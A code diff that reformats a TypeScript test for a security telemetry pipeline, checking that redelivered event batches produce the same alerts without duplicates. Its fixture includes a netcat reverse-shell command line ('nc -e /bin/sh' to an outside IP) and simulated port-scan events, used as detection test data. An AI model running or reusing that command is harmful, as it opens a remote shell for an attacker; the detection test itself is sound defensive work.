@@ -39,7 +39,7 @@ function newPipeline(registry: Registry): TelemetryPipeline {
 }
 
 async function caughtUp(): Promise<void> {
-  for (const deadline = Date.now() + 10_000; Date.now() < deadline; ) {
+  for (const deadline = Date.now() + 10_000; Date.now() < deadline;) {
     const info = await bus.jsm.consumers.info('TELEMETRY', TELEMETRY_DURABLE);
     if (info.num_pending === 0 && info.num_ack_pending === 0) return;
     await new Promise((r) => setTimeout(r, 100));
@@ -54,22 +54,39 @@ async function counter(registry: Registry, name: string): Promise<number> {
 
 it('a redelivered batch raises the same alert ids and JetStream stores no duplicate', async () => {
   const t0 = 1_700_000_000_000_000_000n;
-  await publish(bus, subjects.telemetry('process', 'node-1'), EventBatch, EventBatch.fromPartial({
-    sessionId: 's', sequence: 1n,
-    events: [processLaunch({ Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.9.9.9 4444' }, { id: 'nc', timeNs: t0 })],
-  }));
-  await publish(bus, subjects.telemetry('network', 'node-1'), EventBatch, EventBatch.fromPartial({
-    sessionId: 's', sequence: 2n,
-    events: ['10.1.0.1', '10.1.0.2', '10.1.0.3', '10.1.0.4'].map((host, i) =>
-      flowEvent({
-        id: `scan-${i}`,
-        timeNs: t0 + BigInt(i) * 1_000_000_000n,
-        src: { ip: '10.0.0.5' },
-        dst: { ip: host, port: 22 },
-        activity: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
-      }),
-    ),
-  }));
+  await publish(
+    bus,
+    subjects.telemetry('process', 'node-1'),
+    EventBatch,
+    EventBatch.fromPartial({
+      sessionId: 's',
+      sequence: 1n,
+      events: [
+        processLaunch(
+          { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.9.9.9 4444' },
+          { id: 'nc', timeNs: t0 },
+        ),
+      ],
+    }),
+  );
+  await publish(
+    bus,
+    subjects.telemetry('network', 'node-1'),
+    EventBatch,
+    EventBatch.fromPartial({
+      sessionId: 's',
+      sequence: 2n,
+      events: ['10.1.0.1', '10.1.0.2', '10.1.0.3', '10.1.0.4'].map((host, i) =>
+        flowEvent({
+          id: `scan-${i}`,
+          timeNs: t0 + BigInt(i) * 1_000_000_000n,
+          src: { ip: '10.0.0.5' },
+          dst: { ip: host, port: 22 },
+          activity: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
+        }),
+      ),
+    }),
+  );
 
   const firstMetrics = new Registry();
   const first = newPipeline(firstMetrics);
